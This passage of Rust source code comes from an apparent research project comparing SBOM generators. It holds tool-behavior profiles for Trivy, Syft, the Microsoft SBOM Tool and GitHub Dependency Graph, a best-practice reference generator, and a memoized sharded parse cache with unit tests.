            ToolId::Trivy => "0.43.0",
            ToolId::Syft => "0.84.1",
            ToolId::SbomTool => "1.1.6",
            ToolId::GithubDg => "live",
            ToolId::BestPractice => "0.1.0",
        }
    }
}

impl std::fmt::Display for ToolId {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.write_str(self.label())
    }
}

/// An SBOM generator: scans a repository and produces an SBOM.
///
/// `Sync` is a supertrait so any generator can be driven by the parallel
/// `(repository × tool)` fan-out in `sbomdiff-experiments`; scanning takes
/// `&self` and must be free of unsynchronized interior mutability (the
/// sbom-tool emulator's flaky registry counter, for example, lives in a
/// per-scan client, not in the emulator).
pub trait SbomGenerator: Sync {
    /// The tool identity.
    fn id(&self) -> ToolId;

    /// Scans the repository and produces an SBOM document.
    fn generate(&self, repo: &RepoFs) -> Sbom;
}

/// Builds all four studied-tool emulators against a registry set.
///
/// The registry is only contacted by the sbom-tool emulator (the others are
/// offline, §V-C); `sbom_tool_failure_rate` models its unreliable
/// resolution.
pub fn studied_tools<'r>(
    registries: &'r Registries,
    sbom_tool_failure_rate: f64,
) -> Vec<ToolEmulator<'r>> {
    vec![
        ToolEmulator::trivy(),
        ToolEmulator::syft(),
        ToolEmulator::sbom_tool(registries, sbom_tool_failure_rate),
        ToolEmulator::github_dg(),
    ]
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn tool_labels_and_versions() {
        assert_eq!(ToolId::Trivy.label(), "Trivy");
        assert_eq!(ToolId::SbomTool.version(), "1.1.6");
        assert_eq!(ToolId::STUDIED.len(), 4);
    }

    #[test]
    fn studied_tools_builds_four() {
        let regs = Registries::generate(1);
        let tools = studied_tools(&regs, 0.0);
        let ids: Vec<ToolId> = tools.iter().map(|t| t.id()).collect();
        assert_eq!(ids, ToolId::STUDIED.to_vec());
    }

    #[test]
    fn generators_are_send_and_sync() {
        // The parallel fan-out moves shared references to emulators across
        // worker threads; regressing these bounds would break it.
        fn assert_send_sync<T: Send + Sync>() {}
        assert_send_sync::<ToolEmulator<'static>>();
        assert_send_sync::<BestPracticeGenerator<'static>>();
        assert_send_sync::<ParseCache>();
    }
}

//! Tool behavior profiles: every root cause §V identifies, as an explicit
//! field.

use sbomdiff_metadata::python::ReqStyle;

use crate::support::SupportMatrix;
use crate::ToolId;

/// How a tool renders Java compound names (§V-E).
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum JavaNaming {
    /// Artifact ID only (Syft).
    ArtifactOnly,
    /// `group:artifact` (Trivy, GitHub DG).
    GroupColonArtifact,
    /// `group.artifact` (Microsoft SBOM Tool).
    GroupDotArtifact,
}

/// How a tool spells Go module versions (§V-E).
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum GoVersionStyle {
    /// Keep the leading `v` (Syft, Microsoft SBOM Tool).
    KeepV,
    /// Strip the leading `v` (Trivy, GitHub DG).
    StripV,
}

/// How a tool reports CocoaPods subspecs (§V-E).
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum SubspecNaming {
    /// Report the subspec (`Firebase/Auth`) — Syft, Trivy.
    Subspec,
    /// Report the main pod (`Firebase`) — Microsoft SBOM Tool.
    MainPod,
}

/// What a tool does with unpinned version requirements in raw metadata
/// (§V-D).
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum VersionPolicy {
    /// Silently drop the dependency (Trivy, Syft).
    DropUnpinned,
    /// Report the range text verbatim as the version (GitHub DG).
    Verbatim,
    /// Query the registry and pin the latest version in range, validating
    /// the package name; drop on failure (Microsoft SBOM Tool).
    ResolveLatest,
}

/// The full behavior profile of one emulated tool.
#[derive(Debug, Clone)]
pub struct ToolProfile {
    /// Which tool this profile models.
    pub id: ToolId,
    /// Actually-extracting file types (Table II).
    pub support: SupportMatrix,
    /// `requirements.txt` parsing dialect (§V-B, Table IV).
    pub req_style: ReqStyle,
    /// Unpinned-version handling (§V-D).
    pub version_policy: VersionPolicy,
    /// Whether dev-scoped dependencies are reported (§V-F).
    pub include_dev: bool,
    /// Java naming convention (§V-E).
    pub java_naming: JavaNaming,
    /// Go version spelling (§V-E).
    pub go_version: GoVersionStyle,
    /// CocoaPods subspec naming (§V-E).
    pub subspec: SubspecNaming,
    /// Whether the tool resolves transitive dependencies of raw metadata
    /// by querying the registry (§V-C: only the Microsoft SBOM Tool).
    pub resolve_transitive: bool,
    /// Whether duplicate (name, version) entries across metadata files are
    /// merged (§V-G: none of the studied tools merge).
    pub merge_duplicates: bool,
    /// Whether only files named exactly `requirements.txt` are scanned
    /// (sbom-tool's component detector keys on the exact file name, while
    /// Trivy/Syft/GitHub DG match `requirements*.txt` variants).
    pub requirements_exact_name_only: bool,
    /// Whether `go.mod` is skipped when a sibling `go.sum` exists (Trivy
    /// reads the richer go.sum and would otherwise double-report).
    pub prefer_gosum_over_gomod: bool,
}

impl ToolProfile {
    /// Trivy 0.43.0 (§V): production-only, `==`-keyed requirements parsing,
    /// drops unpinned, strips Go `v`, `group:artifact`.
    pub fn trivy() -> Self {
        ToolProfile {
            id: ToolId::Trivy,
            support: SupportMatrix::for_tool(ToolId::Trivy),
            req_style: ReqStyle::TrivySyft,
            version_policy: VersionPolicy::DropUnpinned,
            include_dev: false,
            java_naming: JavaNaming::GroupColonArtifact,
            go_version: GoVersionStyle::StripV,
            subspec: SubspecNaming::Subspec,
            resolve_transitive: false,
            merge_duplicates: false,
            requirements_exact_name_only: false,
            prefer_gosum_over_gomod: true,
        }
    }

    /// Syft 0.84.1 (§V): includes dev deps, artifact-only Java names,
    /// keeps Go `v`.
    pub fn syft() -> Self {
        ToolProfile {
            id: ToolId::Syft,
            support: SupportMatrix::for_tool(ToolId::Syft),
            req_style: ReqStyle::TrivySyft,
            version_policy: VersionPolicy::DropUnpinned,
            include_dev: true,
            java_naming: JavaNaming::ArtifactOnly,
            go_version: GoVersionStyle::KeepV,
            subspec: SubspecNaming::Subspec,
            resolve_transitive: false,
            merge_duplicates: false,
            requirements_exact_name_only: false,
            prefer_gosum_over_gomod: false,
        }
    }

    /// Microsoft SBOM Tool 1.1.6 (§V): registry-backed latest-in-range
    /// pinning and transitive resolution (unreliable), `group.artifact`,
    /// main-pod subspec names, markers/extras ignored.
    pub fn sbom_tool() -> Self {
        ToolProfile {
            id: ToolId::SbomTool,
            support: SupportMatrix::for_tool(ToolId::SbomTool),
            req_style: ReqStyle::SbomTool,
            version_policy: VersionPolicy::ResolveLatest,
            include_dev: false,
            java_naming: JavaNaming::GroupDotArtifact,
            go_version: GoVersionStyle::KeepV,
            subspec: SubspecNaming::MainPod,
            resolve_transitive: true,
            merge_duplicates: false,
            requirements_exact_name_only: true,
            prefer_gosum_over_gomod: false,
        }
    }

    /// GitHub Dependency Graph (§V): best raw-metadata coverage, ranges
    /// verbatim, includes dev deps, strips Go `v`.
    pub fn github_dg() -> Self {
        ToolProfile {
            id: ToolId::GithubDg,
            support: SupportMatrix::for_tool(ToolId::GithubDg),
            req_style: ReqStyle::GithubDg,
            version_policy: VersionPolicy::Verbatim,
            include_dev: true,
            java_naming: JavaNaming::GroupColonArtifact,
            go_version: GoVersionStyle::StripV,
            subspec: SubspecNaming::Subspec,
            resolve_transitive: false,
            merge_duplicates: false,
            requirements_exact_name_only: false,
            prefer_gosum_over_gomod: false,
        }
    }

    /// The profile for a tool id.
    pub fn for_tool(id: ToolId) -> Self {
        match id {
            ToolId::Trivy => ToolProfile::trivy(),
            ToolId::Syft => ToolProfile::syft(),
            ToolId::SbomTool => ToolProfile::sbom_tool(),
            ToolId::GithubDg => ToolProfile::github_dg(),
            ToolId::BestPractice => {
                // The best-practice generator has its own implementation;
                // this profile is only used for support-matrix queries.
                ToolProfile {
                    id: ToolId::BestPractice,
                    support: SupportMatrix::for_tool(ToolId::BestPractice),
                    req_style: ReqStyle::Pip,
                    version_policy: VersionPolicy::ResolveLatest,
                    include_dev: true,
                    java_naming: JavaNaming::GroupColonArtifact,
                    go_version: GoVersionStyle::KeepV,
                    subspec: SubspecNaming::Subspec,
                    resolve_transitive: true,
                    merge_duplicates: true,
                    requirements_exact_name_only: false,
                    prefer_gosum_over_gomod: false,
                }
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn profiles_encode_section_v_findings() {
        let trivy = ToolProfile::trivy();
        let syft = ToolProfile::syft();
        let sbom_tool = ToolProfile::sbom_tool();
        let github = ToolProfile::github_dg();

        // §V-D: Trivy and Syft silently drop unpinned versions.
        assert_eq!(trivy.version_policy, VersionPolicy::DropUnpinned);
        assert_eq!(syft.version_policy, VersionPolicy::DropUnpinned);
        // §V-D: GitHub reports ranges verbatim; sbom-tool pins via registry.
        assert_eq!(github.version_policy, VersionPolicy::Verbatim);
        assert_eq!(sbom_tool.version_policy, VersionPolicy::ResolveLatest);
        // §V-F: Trivy production-only; Syft and GitHub include dev.
        assert!(!trivy.include_dev);
        assert!(syft.include_dev);
        assert!(github.include_dev);
        // §V-E naming conventions.
        assert_eq!(syft.java_naming, JavaNaming::ArtifactOnly);
        assert_eq!(sbom_tool.java_naming, JavaNaming::GroupDotArtifact);
        assert_eq!(trivy.java_naming, JavaNaming::GroupColonArtifact);
        assert_eq!(github.java_naming, JavaNaming::GroupColonArtifact);
        assert_eq!(trivy.go_version, GoVersionStyle::StripV);
        assert_eq!(github.go_version, GoVersionStyle::StripV);
        assert_eq!(syft.go_version, GoVersionStyle::KeepV);
        assert_eq!(sbom_tool.go_version, GoVersionStyle::KeepV);
        assert_eq!(sbom_tool.subspec, SubspecNaming::MainPod);
        // §V-C: only sbom-tool attempts transitive resolution.
        assert!(sbom_tool.resolve_transitive);
        assert!(!trivy.resolve_transitive);
        assert!(!syft.resolve_transitive);
        assert!(!github.resolve_transitive);
        // §V-G: none of the studied tools merge duplicates.
        for p in [&trivy, &syft, &sbom_tool, &github] {
            assert!(!p.merge_duplicates);
        }
    }
}

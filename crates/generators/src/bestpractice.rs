//! The paper's §VII best-practice generator.
//!
//! Implements the recommendations the evaluation motivates:
//!
//! * **Package-manager dry run for lockfile generation** — raw metadata is
//!   resolved against the registry (transitives + concrete versions)
//!   instead of being parsed with a custom grammar; existing lockfiles are
//!   used directly.
//! * **PURL and CPE on every component** for consistent naming and
//!   vulnerability-database compatibility.
//! * **Duplicate merging** within a project, and a dependency-scope
//!   annotation (the field §V-F finds missing from SBOM formats).
//! * **NTIA minimum elements on every component and the document**:
//!   supplier, unique IDs, and a creation timestamp (deterministic, so
//!   identical inputs still produce byte-identical documents).

use std::collections::BTreeMap;

use sbomdiff_faultline as fault;
use sbomdiff_metadata::{
    dotnet, golang, java, javascript, php, python, ruby, rust_lang, swift, MetadataKind, Parsed,
    RepoFs,
};
use sbomdiff_registry::Registries;
use sbomdiff_resolver::{dry_run, engine, Platform};
use sbomdiff_types::{Component, Cpe, DepScope, DiagClass, Diagnostic, Ecosystem, Purl, Sbom};

use crate::{SbomGenerator, ToolId};

/// Fixed document-creation timestamp of the reference generator. Real
/// tools stamp the wall clock; the reference design derives document
/// identity from its inputs alone, so the timestamp is a constant —
/// present for NTIA completeness, harmless for reproducibility.
pub const REFERENCE_TIMESTAMP: &str = "2024-06-24T00:00:00Z";

/// The best-practice reference generator.
pub struct BestPracticeGenerator<'r> {
    registries: &'r Registries,
    platform: Platform,
}

impl<'r> BestPracticeGenerator<'r> {
    /// Creates the generator against a (reliable) registry set.
    pub fn new(registries: &'r Registries) -> Self {
        BestPracticeGenerator {
            registries,
            platform: Platform::default(),
        }
    }
}

impl SbomGenerator for BestPracticeGenerator<'_> {
    fn id(&self) -> ToolId {
        ToolId::BestPractice
    }

    fn generate(&self, repo: &RepoFs) -> Sbom {
        // Isolated reference path: walk and parse everything locally (the
        // oracle the shared-scan property tests compare against).
        self.generate_from(repo, &repo.metadata_files(), &|path, kind| {
            std::sync::Arc::new(parse_reference(repo, path, kind))
        })
    }
}

impl BestPracticeGenerator<'_> {
    /// Derives the best-practice SBOM from a shared scan: the walk and the
    /// reference parses come from the [`crate::ScanContext`], shared with
    /// every other request or generator using the same cache.
    /// Byte-identical to [`generate`](SbomGenerator::generate).
    pub fn generate_with_scan(&self, scan: &crate::ScanContext<'_>) -> Sbom {
        self.generate_from(scan.repo(), scan.files(), &|path, kind| {
            scan.parsed_reference(path, kind)
        })
    }

    fn generate_from(
        &self,
        repo: &RepoFs,
        files: &[(&str, MetadataKind)],
        parse: &dyn Fn(&str, MetadataKind) -> std::sync::Arc<Parsed>,
    ) -> Sbom {
        let mut sbom = Sbom::new(ToolId::BestPractice.label(), ToolId::BestPractice.version())
            .with_subject(repo.name())
            .with_timestamp(REFERENCE_TIMESTAMP);
        // Group metadata files by (directory, ecosystem): one "project".
        let mut projects: BTreeMap<(String, Ecosystem), Vec<(String, MetadataKind)>> =
            BTreeMap::new();
        for &(path, kind) in files {
            let dir = path
                .rsplit_once('/')
                .map(|(d, _)| d)
                .unwrap_or("")
                .to_string();
            projects
                .entry((dir, kind.ecosystem()))
                .or_default()
                .push((path.to_string(), kind));
        }

        let mut seen: std::collections::BTreeSet<(Ecosystem, String, String)> =
            std::collections::BTreeSet::new();
        for ((_dir, eco), files) in projects {
            let has_lockfile = files.iter().any(|(_, k)| k.is_lockfile());
            if has_lockfile {
                for (path, kind) in files.iter().filter(|(_, k)| k.is_lockfile()) {
                    let parsed = parse(path, *kind);
                    sbom.extend_shared_diagnostics(parsed.diags.iter().cloned());
                    for dep in parsed.iter() {
                        let version = dep
                            .pinned_version()
                            .map(|v| v.to_string())
                            .or_else(|| (!dep.req_text.is_empty()).then(|| dep.req_text.clone()));
                        push_component(
                            &mut sbom,
                            &mut seen,
                            eco,
                            dep.name.raw(),
                            version,
                            dep.scope,
                            path,
                        );
                    }
                }
            } else {
                self.resolve_raw_project(repo, eco, &files, &mut sbom, &mut seen, parse);
            }
        }
        sbom
    }

    /// Dry-run resolves a raw-metadata project: direct declarations plus
    /// the transitive closure, all pinned (§VII).
    #[allow(clippy::too_many_arguments)]
    fn resolve_raw_project(
        &self,
        repo: &RepoFs,
        eco: Ecosystem,
        files: &[(String, MetadataKind)],
        sbom: &mut Sbom,
        seen: &mut std::collections::BTreeSet<(Ecosystem, String, String)>,
        parse: &dyn Fn(&str, MetadataKind) -> std::sync::Arc<Parsed>,
    ) {
        let registry = self.registries.for_ecosystem(eco);
        for (path, kind) in files {
            if *kind == MetadataKind::RequirementsTxt {
                // Full pip dry run (follows -r includes, markers, extras).
                let report = dry_run(registry, &repo.text_files(), path, &self.platform);
                for pkg in report.installed {
                    push_component(
                        sbom,
                        seen,
                        eco,
                        &pkg.name,
                        Some(pkg.version.to_string()),
                        DepScope::Runtime,
                        path,
                    );
                }
                continue;
            }
            let declared = parse(path, *kind);
            sbom.extend_shared_diagnostics(declared.diags.iter().cloned());
            let roots: Vec<engine::RootDep> = declared
                .iter()
                .filter(|d| d.source.is_registry())
                .map(|d| engine::RootDep {
                    name: d.name.raw().to_string(),
                    req: d.req.clone(),
                    scope: d.scope,
                    extras: d.extras.clone(),
                })
                .collect();
            let resolution =
                engine::resolve(registry, &roots, engine::DedupPolicy::HighestWins, true);
            for entry in resolution.packages {
                push_component(
                    sbom,
                    seen,
                    eco,
                    &entry.name,
                    Some(entry.version.to_string()),
                    entry.scope,
                    path,
                );
            }
        }
    }
}

#[allow(clippy::too_many_arguments)]
fn push_component(
    sbom: &mut Sbom,
    seen: &mut std::collections::BTreeSet<(Ecosystem, String, String)>,
    eco: Ecosystem,
    name: &str,
    version: Option<String>,
    scope: DepScope,
    path: &str,
) {
    let canonical = sbomdiff_types::name::normalize(eco, name);
    let key = (eco, canonical, version.clone().unwrap_or_default());
    if !seen.insert(key) {
        return; // merged duplicate (§V-G fixed)
    }
    let purl = Purl::for_package(eco, name, version.as_deref());
    let cpe = Cpe::for_package(eco, name, version.as_deref().unwrap_or("*"));
    // Supplier per NTIA: the publishing party. Registry metadata in this
    // synthetic setting only knows the project itself, so the supplier is
    // derived from the PURL type + name — deterministic and non-empty.
    let supplier = format!("{}:{}", purl.ptype(), name);
    sbom.push(
        Component::new(eco, name, version)
            .with_found_in(path)
            .with_scope(scope)
            .with_purl(purl)
            .with_cpe(cpe)
            .with_supplier(supplier),
    );
}

/// Dispatches to the reference (spec-faithful) parser for a file — the
/// grammar family the best-practice generator uses, as opposed to the
/// tool-dialect parsers of `emulator::parse_with_style`. Results are
/// stamped with path and ecosystem, ready for caching.
pub(crate) fn parse_reference(repo: &RepoFs, path: &str, kind: MetadataKind) -> Parsed {
    // Fault point: the reference parse has no tool dialect to degrade into,
    // so both injected errors and injected corruption fail the file with a
    // typed, marker-carrying diagnostic instead of silently dropping it.
    if let Some(surfaced) = fault::point!(fault::sites::PARSE_REFERENCE, path) {
        let class = match surfaced {
            fault::Surfaced::Error => DiagClass::IoError,
            fault::Surfaced::Corrupt => DiagClass::TruncatedInput,
        };
        return Parsed::fail(Diagnostic::new(
            class,
            surfaced.message(fault::sites::PARSE_REFERENCE),
        ))
        .with_path(path)
        .with_ecosystem(kind.ecosystem());
    }
    let parsed = if kind.is_lockfile() {
        parse_lockfile(repo, path, kind)
    } else {
        parse_raw(repo, path, kind)
    };
    parsed.with_path(path).with_ecosystem(kind.ecosystem())
}

fn parse_lockfile(repo: &RepoFs, path: &str, kind: MetadataKind) -> Parsed {
    let text = || repo.text(path).unwrap_or_default();
    match kind {
        MetadataKind::PoetryLock => python::parse_poetry_lock(text()),
        MetadataKind::PipfileLock => python::parse_pipfile_lock(text()),
        MetadataKind::PackageLockJson => javascript::parse_package_lock(text()),
        MetadataKind::YarnLock => javascript::parse_yarn_lock(text()),
        MetadataKind::PnpmLock => javascript::parse_pnpm_lock(text()),
        MetadataKind::GemfileLock => ruby::parse_gemfile_lock(text()),
        MetadataKind::ComposerLock => php::parse_composer_lock(text()),
        MetadataKind::GradleLockfile => java::parse_gradle_lockfile(text()),
        MetadataKind::GoSum => golang::parse_go_sum(text()),
        MetadataKind::CargoLock => rust_lang::parse_cargo_lock(text()),
        MetadataKind::PackageResolved => swift::parse_package_resolved(text()),
        MetadataKind::PodfileLock => swift::parse_podfile_lock(text()),
        MetadataKind::PackagesLockJson => dotnet::parse_packages_lock_json(text()),
        _ => Parsed::default(),
    }
}

fn parse_raw(repo: &RepoFs, path: &str, kind: MetadataKind) -> Parsed {
    let text = || repo.text(path).unwrap_or_default();
    match kind {
        MetadataKind::SetupPy => python::parse_setup_py(text()),
        MetadataKind::PyprojectToml => python::parse_pyproject_toml(text()),
        MetadataKind::SetupCfg => python::parse_setup_cfg(text()),
        MetadataKind::PackageJson => javascript::parse_package_json(text()),
        MetadataKind::Gemfile => ruby::parse_gemfile(text()),
        MetadataKind::Gemspec => ruby::parse_gemspec(text()),
        MetadataKind::ComposerJson => php::parse_composer_json(text()),
        MetadataKind::PomXml => java::parse_pom_xml(text()),
        MetadataKind::ManifestMf => java::parse_manifest_mf(text()),
        MetadataKind::PomProperties => java::parse_pom_properties(text()),
        MetadataKind::GoMod => golang::parse_go_mod(text()),
        MetadataKind::GoBinary => golang::parse_go_binary(repo.bytes(path).unwrap_or_default()),
        MetadataKind::CargoToml => rust_lang::parse_cargo_toml(text()),
        MetadataKind::RustBinary => {
            rust_lang::parse_rust_binary(repo.bytes(path).unwrap_or_default())
        }
        MetadataKind::PackageSwift => swift::parse_package_swift(text()),
        MetadataKind::Podfile => swift::parse_podfile(text()),
        MetadataKind::Csproj => dotnet::parse_csproj(text()),
        MetadataKind::PackagesConfig => dotnet::parse_packages_config(text()),
        _ => Parsed::default(),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn resolves_raw_metadata_with_transitives() {
        let regs = Registries::generate(5);
        let mut repo = RepoFs::new("bp-demo");
        repo.add_text("requirements.txt", "requests>=2.8.1\n");
        let sbom = BestPracticeGenerator::new(&regs).generate(&repo);
        let names: Vec<&str> = sbom.components().iter().map(|c| c.name.as_str()).collect();
        assert!(names.contains(&"requests"));
        assert!(names.contains(&"urllib3")); // transitive, pinned
        for c in sbom.components() {
            assert!(c.purl.is_some(), "every component carries a PURL");
            assert!(c.cpe.is_some(), "every component carries a CPE");
            assert!(c.version.is_some(), "every component is pinned");
            assert!(c.scope.is_some(), "scope annotation present");
            assert!(
                c.supplier.as_deref().is_some_and(|s| !s.is_empty()),
                "supplier present (NTIA minimum)"
            );
        }
        assert_eq!(sbom.meta.timestamp.as_deref(), Some(REFERENCE_TIMESTAMP));
    }

    #[test]
    fn prefers_lockfiles_when_present() {
        let regs = Registries::generate(5);
        let mut repo = RepoFs::new("bp-lock");
        repo.add_text("requirements.txt", "requests>=2.8.1\n");
        repo.add_text(
            "poetry.lock",
            "[[package]]\nname = \"requests\"\nversion = \"2.8.1\"\ncategory = \"main\"\n",
        );
        let sbom = BestPracticeGenerator::new(&regs).generate(&repo);
        let requests: Vec<&Component> = sbom
            .components()
            .iter()
            .filter(|c| c.name == "requests")
            .collect();
        // One merged entry, from the lockfile's pinned 2.8.1.
        assert_eq!(requests.len(), 1);
        assert_eq!(requests[0].version.as_deref(), Some("2.8.1"));
    }

    #[test]
    fn merges_duplicates_across_files() {
        let regs = Registries::generate(5);
        let mut repo = RepoFs::new("bp-dup");
        repo.add_text("requirements.txt", "numpy==1.19.2\n");
        repo.add_text("requirements-dev.txt", "numpy==1.19.2\n");
        let sbom = BestPracticeGenerator::new(&regs).generate(&repo);
        assert_eq!(sbom.duplicate_entries(), 0);
        assert_eq!(
            sbom.components()
                .iter()
                .filter(|c| c.name == "numpy")
                .count(),
            1
        );
    }

    #[test]
    fn resolves_non_python_raw_metadata() {
        let regs = Registries::generate(5);
        let mut repo = RepoFs::new("bp-js");
        repo.add_text("package.json", r#"{"dependencies": {"express": "^4.0.0"}}"#);
        let sbom = BestPracticeGenerator::new(&regs).generate(&repo);
        let names: Vec<&str> = sbom.components().iter().map(|c| c.name.as_str()).collect();
        assert!(names.contains(&"express"));
        assert!(names.contains(&"debug")); // transitive
        assert!(names.contains(&"ms")); // transitive of transitive
    }
}

//! Shared memoized metadata-parse cache.
//!
//! Every studied tool walks the *same* repository metadata, so in the
//! differential pipeline each manifest used to be parsed four times — once
//! per emulator. [`ParseCache`] memoizes the parsed declarations keyed by
//! `(path, content hash, file kind, parser)`: the requirements dialect is
//! the only profile-dependent parser input, so Trivy and Syft — which share
//! the [`ReqStyle::TrivySyft`] dialect — also share cache entries, and
//! every other file kind is parsed exactly once no matter how many
//! emulators scan it.
//!
//! The key hashes the file *content*, not the repository name. Two
//! consequences:
//!
//! * A long-lived cache (the analysis service, corpus experiments) can be
//!   shared across repositories and requests: re-analyzing an unchanged
//!   manifest is a lookup, while a *mutated* file hashes to a different
//!   key and is re-parsed — a stale parse can never be served, even when
//!   two requests reuse one repository name.
//! * Identical manifests in different repositories (common in synthetic
//!   corpora and real monorepos) collapse into one parse.
//!
//! The cache is sharded (16 mutexes selected by key hash) so the parallel
//! fan-out in `sbomdiff-experiments` contends only when two workers touch
//! the same shard at the same instant. Hit/miss counters feed the
//! experiment driver's timing report and the service's `/metrics`.

use std::collections::HashMap;
use std::sync::atomic::{AtomicU64, Ordering};
use std::sync::{Arc, Mutex, PoisonError};

use sbomdiff_metadata::python::ReqStyle;
use sbomdiff_metadata::{MetadataKind, Parsed, RepoFs};

const SHARDS: usize = 16;

/// Which parser family produced a cached entry. Emulator profiles use the
/// dialect parsers (parameterized by requirements style); the best-practice
/// generator uses the reference parsers, which accept strictly more syntax
/// — the two must never share entries for the same file.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub(crate) enum ParserKey {
    /// Tool-dialect parse; the `Option` is the requirements dialect
    /// (`None` for every kind other than `requirements.txt`, collapsing
    /// all profiles onto one entry).
    Dialect(Option<ReqStyle>),
    /// Reference (spec-faithful) parse for the best-practice generator.
    Reference,
}

impl ParserKey {
    /// Dense index for per-scan memo slots (see [`crate::ScanContext`]).
    pub(crate) fn slot(self) -> usize {
        match self {
            ParserKey::Dialect(None) => 0,
            ParserKey::Dialect(Some(ReqStyle::Pip)) => 1,
            ParserKey::Dialect(Some(ReqStyle::TrivySyft)) => 2,
            ParserKey::Dialect(Some(ReqStyle::SbomTool)) => 3,
            ParserKey::Dialect(Some(ReqStyle::GithubDg)) => 4,
            ParserKey::Reference => 5,
        }
    }

    /// Number of distinct [`ParserKey::slot`] values.
    pub(crate) const SLOTS: usize = 6;
}

type Key = (String, u64, MetadataKind, ParserKey);
type Shard = Mutex<HashMap<Key, Arc<Parsed>>>;

/// Memoizes [`parse`](ParseCache::parse) results across tool emulators,
/// repositories and requests.
///
/// # Examples
///
/// ```
/// use sbomdiff_generators::{ParseCache, SbomGenerator, ToolEmulator};
/// use sbomdiff_metadata::RepoFs;
///
/// let mut repo = RepoFs::new("demo");
/// repo.add_text("requirements.txt", "numpy==1.19.2\n");
/// let cache = ParseCache::new();
/// let a = ToolEmulator::trivy().generate_with_cache(&repo, &cache);
/// let b = ToolEmulator::syft().generate_with_cache(&repo, &cache);
/// assert_eq!(a.len(), b.len());
/// // Trivy and Syft share the requirements dialect: one parse, one hit.
/// assert_eq!((cache.misses(), cache.hits()), (1, 1));
/// ```
pub struct ParseCache {
    shards: Vec<Shard>,
    hits: AtomicU64,
    misses: AtomicU64,
}

impl Default for ParseCache {
    fn default() -> Self {
        ParseCache::new()
    }
}

impl ParseCache {
    /// An empty cache.
    pub fn new() -> Self {
        ParseCache {
            shards: (0..SHARDS).map(|_| Mutex::new(HashMap::new())).collect(),
            hits: AtomicU64::new(0),
            misses: AtomicU64::new(0),
        }
    }

    /// Parses `path` of `repo` as `kind` under the `style` requirements
    /// dialect, memoized. The returned `Arc` is shared with every other
    /// caller asking for the same `(path, content, kind, dialect)`.
    pub fn parse(
        &self,
        repo: &RepoFs,
        path: &str,
        kind: MetadataKind,
        style: ReqStyle,
    ) -> Arc<Parsed> {
        // Only requirements.txt parsing is dialect-dependent; collapsing
        // the key for every other kind lets all four tools share one entry.
        let dialect = (kind == MetadataKind::RequirementsTxt).then_some(style);
        self.memoized(repo, path, kind, ParserKey::Dialect(dialect), || {
            crate::emulator::parse_with_style(repo, path, kind, style)
        })
    }

    /// Parses `path` of `repo` as `kind` with the *reference* parsers the
    /// best-practice generator uses, memoized separately from the dialect
    /// parses (the reference grammar accepts strictly more syntax).
    pub fn parse_reference(&self, repo: &RepoFs, path: &str, kind: MetadataKind) -> Arc<Parsed> {
        self.memoized(repo, path, kind, ParserKey::Reference, || {
            crate::bestpractice::parse_reference(repo, path, kind)
        })
    }

    fn memoized(
        &self,
        repo: &RepoFs,
        path: &str,
        kind: MetadataKind,
        parser: ParserKey,
        parse: impl FnOnce() -> Parsed,
    ) -> Arc<Parsed> {
        let content = fnv_bytes(repo.bytes(path).unwrap_or_default());
        let key: Key = (path.to_string(), content, kind, parser);
        let shard = &self.shards[fxhash(&key) as usize % SHARDS];
        // A poisoned shard only means another worker panicked mid-insert;
        // the map itself is still coherent, so recover instead of cascading.
        if let Some(found) = shard
            .lock()
            .unwrap_or_else(PoisonError::into_inner)
            .get(&key)
        {
            self.hits.fetch_add(1, Ordering::Relaxed);
            return Arc::clone(found);
        }
        // Parse outside the lock: other shard keys stay available and a
        // racing duplicate parse is deterministic anyway.
        let parsed = Arc::new(parse());
        self.misses.fetch_add(1, Ordering::Relaxed);
        Arc::clone(
            shard
                .lock()
                .unwrap_or_else(PoisonError::into_inner)
                .entry(key)
                .or_insert(parsed),
        )
    }

    /// Records a reuse that was served from a scan-local memo instead of a
    /// shard lookup — still a shared parse avoided, so it counts as a hit.
    pub(crate) fn record_hit(&self) {
        self.hits.fetch_add(1, Ordering::Relaxed);
    }

    /// Cache hits so far (memoized parses reused).
    pub fn hits(&self) -> u64 {
        self.hits.load(Ordering::Relaxed)
    }

    /// Cache misses so far (actual parses performed).
    pub fn misses(&self) -> u64 {
        self.misses.load(Ordering::Relaxed)
    }

    /// Total entries currently held.
    pub fn len(&self) -> usize {
        self.shards
            .iter()
            .map(|s| s.lock().unwrap_or_else(PoisonError::into_inner).len())
            .sum()
    }

    /// True when nothing has been parsed yet.
    pub fn is_empty(&self) -> bool {
        self.len() == 0
    }
}

fn fxhash(key: &Key) -> u64 {
    use std::hash::{Hash, Hasher};
    let mut h = std::collections::hash_map::DefaultHasher::new();
    key.hash(&mut h);
    h.finish()
}

fn fnv_bytes(bytes: &[u8]) -> u64 {
    let mut h: u64 = 0xcbf2_9ce4_8422_2325;
    for &b in bytes {
        h = (h ^ b as u64).wrapping_mul(0x100_0000_01b3);
    }
    h
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::{SbomGenerator, ToolEmulator};

    fn repo() -> RepoFs {
        let mut repo = RepoFs::new("cache-demo");
        repo.add_text("requirements.txt", "numpy==1.19.2\nflask>=2.0\n");
        repo.add_text("go.mod", "module m\nrequire github.com/pkg/errors v0.9.1\n");
        repo
    }

    #[test]
    fn memoizes_per_dialect() {
        let repo = repo();
        let cache = ParseCache::new();
        let trivy = ToolEmulator::trivy();
        let syft = ToolEmulator::syft();
        let github = ToolEmulator::github_dg();
        trivy.generate_with_cache(&repo, &cache);
        syft.generate_with_cache(&repo, &cache);
        github.generate_with_cache(&repo, &cache);
        // requirements.txt: TrivySyft dialect parsed once (shared by two
        // tools) + GithubDg dialect once. go.mod: dialect-independent, one
        // parse shared by all supporting tools.
        assert_eq!(cache.misses(), 3);
        assert!(cache.hits() >= 2, "hits={}", cache.hits());
    }

    #[test]
    fn cached_scan_equals_uncached_scan() {
        let repo = repo();
        let cache = ParseCache::new();
        for tool in [
            ToolEmulator::trivy(),
            ToolEmulator::syft(),
            ToolEmulator::github_dg(),
        ] {
            let plain = tool.generate(&repo);
